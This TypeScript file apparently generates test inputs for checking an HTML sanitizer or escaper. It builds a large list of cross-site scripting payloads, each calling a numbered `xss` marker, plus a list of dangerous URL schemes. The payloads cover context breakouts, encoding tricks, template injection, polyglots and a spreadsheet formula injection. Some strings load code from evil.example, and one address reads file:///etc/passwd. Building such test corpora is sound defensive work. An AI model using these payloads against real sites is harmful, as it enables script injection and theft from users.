/**
 * XSS payloads: each calls `xss` with its number. Event handlers, breakouts from every context, encodings, templates
 * and polyglots.
 */
export const payloads: string[] = [];

export const addresses: string[] = [];

const add = (...makes: ((call: string) => string)[]) => {
	for (const make of makes) payloads.push(make(`xss(${payloads.length})`));
};

const tags = [
	'img src=x',
	'image src=x',
	'svg',
	'body',
	'video src=x',
	'audio src=x',
	'video><source src=x',
	'iframe src=x',
	'input autofocus',
	'select autofocus',
	'textarea autofocus',
	'button autofocus',
	'details open',
	'object data=x',
	'embed src=x',
	'link rel=stylesheet href=x',
	'math',
	'a tabindex=1 autofocus',
	'x style=animation-name:x contenteditable autofocus',
	'marquee',
	'dialog open',
	'table background=x'
];
const events = [
	'onerror',
	'onload',
	'onfocus',
	'ontoggle',
	'onpageshow',
	'onmouseover',
	'onpointerenter',
	'onanimationstart',
	'onloadstart',
	'onbegin',
	'onstart',
	'onscroll'
];
for (const tag of tags) for (const event of events) add((call) => `<${tag} ${event}=${call}>`);

/** Closes any context that the text may be in. */
const breakouts = [
	'"',
	"'",
	'`',
	'">',
	"'>",
	'`>',
	' ',
	'/>',
	'-->',
	'--!>',
	']]>',
	'*/',
	'</textarea>',
	'</title>',
	'</script>',
	'</style>',
	'</noscript>',
	'</select>',
	'</option></select>',
	'</template>',
	'</svg>',
	'</math>',
	'</dialog></details>',
	'\\"',
	"\\'",
	'&quot;>',
	'&#34;>',
	'%22>'
];
const followers: ((call: string) => string)[] = [
	(call) => `<script>${call}</script>`,
	(call) => `<img src=x onerror=${call}>`,
	(call) => `<svg/onload=${call}>`,
	(call) => ` onfocus=${call} autofocus x=`,
	(call) => ` onmouseover="${call}" style="position:fixed;inset:0" x="`,
	(call) => `;${call};//`,
	(call) => `-${call}-`,
	(call) => `<iframe srcdoc="<script>parent.${call}</script>">`,
	(call) => `<a href=javascript:${call}>x</a>`
];
for (const breakout of breakouts)
	for (const follower of followers) add((call) => breakout + follower(call));

/** Encoded scripts, which something along the way may decode. */
const encodings: ((text: string) => string)[] = [
	(text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
	(text) => text.replaceAll('<', '&#60;').replaceAll('>', '&#62;'),
	(text) => text.replaceAll('<', '&#x3c').replaceAll('>', '&#x3e'),
	(text) => text.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
	(text) => encodeURIComponent(text),
	(text) => encodeURIComponent(encodeURIComponent(text)),
	(text) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
	(text) => text.replaceAll('<', '\\x3c').replaceAll('>', '\\x3e'),
	(text) => text.replaceAll('<', '\\74').replaceAll('>', '\\76'),
	(text) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
	(text) => text.replaceAll('<', '‹').replaceAll('>', '›'),
	(text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
	(text) => text.replaceAll('<', '¼').replaceAll('>', '¾'),
	(text) => text.toUpperCase().replace('XSS', 'xss'),
	(text) => text.replace('<', '<\u2028').replaceAll('>', '\u2029>'),
	(text) => text.replace('<', '<\u200b'),
	(text) => text.replace('<', '\u202e<'),
	(text) => text.replace('<', '<\t'),
	(text) => text.replace('<', '<<'),
	(text) => text.replace(' ', '/'),
	(text) => text.replace(' ', '\u000c'),
	(text) => text.replace('>', ''),
	(text) => `<!--${text}-->`,
	(text) => `<![CDATA[${text}]]>`,
	(text) => `<svg><![CDATA[>${text}]]>`,
	(text) => `<math><mtext><style>${text}`,
	(text) => `<noscript><p title="</noscript>${text}">`,
	(text) => `<template>${text}</template>`,
	(text) => `<xmp>${text}</xmp>`,
	(text) => `<svg><foreignObject>${text}</foreignObject></svg>`
];
for (const encoding of encodings)
	for (const follower of followers.slice(0, 3)) add((call) => encoding(follower(call)));

add(
	(call) => `\${${call}}`,
	(call) => `{{${call}}}`,
	(call) => `{{constructor.constructor('${call}')()}}`,
	(call) => `{@html '<img src=x onerror=${call}>'}`,
	(call) => `{${call}}`,
	(call) => `#{${call}}`,
	(call) => `<%= ${call} %>`,
	(call) => `\u2028${call}//`,
	(call) => `\u2029${call}//`,
	(call) => `</script><script>${call}//`,
	(call) => `<script>/*</script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${call}//'>`,
	(call) => `"-${call}-"`,
	(call) => `';${call}//`,
	(call) => `\\';${call}//`,
	(call) => `__proto__[onerror]=${call}`,
	(call) => `toString":${call},"x":"`,
	(call) => `]]}','$R[0]=${call}`,
	(call) => `<base href="https://evil.example/"><script src="x.js" title="${call}"></script>`,
	(call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
	(call) => `<form action=javascript:${call}><button autofocus>x</button></form>`,
	(call) => `<button formaction=javascript:${call}>x</button>`,
	(call) => `<svg><a xlink:href=javascript:${call}><text>x</text></a></svg>`,
	(call) => `<svg><animate attributeName=href values=javascript:${call}></svg>`,
	(call) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}>#x"></svg>`,
	(call) => `<math><a href=javascript:${call}>x</a></math>`,
	(call) => `<object data="data:text/html,<script>parent.${call}</script>">`,
	(call) => `<script src="data:text/javascript,${call}"></script>`,
	(call) => `<script type=module>${call}</script>`,
	(call) => `<style>@import 'https://evil.example/${call}.css'</style>`,
	(call) => `<link rel=preload as=script href="https://evil.example/${call}.js">`,
	(call) => `<img src="https://evil.example/${call}.png">`,
	(call) => `=cmd|'/c ${call}'!A1`,
	(call) =>
		`javascript:/*--></title></style></textarea></script><svg onload='+/"/+/onmouseover=1/+/[*/[]/+${call}'>`,
	(call) =>
		`jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${call} )//%0D%0A//</stYle/</titLe/\\x3csVg/oNloAd=${call}//>`
);

for (const scheme of [
	'javascript:',
	'JaVaScRiPt:',
	' javascript:',
	'java\tscript:',
	'java\nscript:',
	'\u0001javascript:',
	'javascript&colon;',
	'&#106;avascript:',
	'javascript://example.org/%0a',
	'vbscript:',
	'data:text/html,<script>',
	'data:text/html;base64,PHNjcmlwdD4=',
	'data:image/svg+xml,<svg/onload=1>',
	'blob:https://example.org/',
	'view-source:javascript:',
	'feed:javascript:',
	'file:///etc/passwd#',
	'//evil.example/',
	'\\\\evil.example\\',
	'https://user:password@example.org/'
])
	addresses.push(`${scheme}xss(${addresses.length})`);
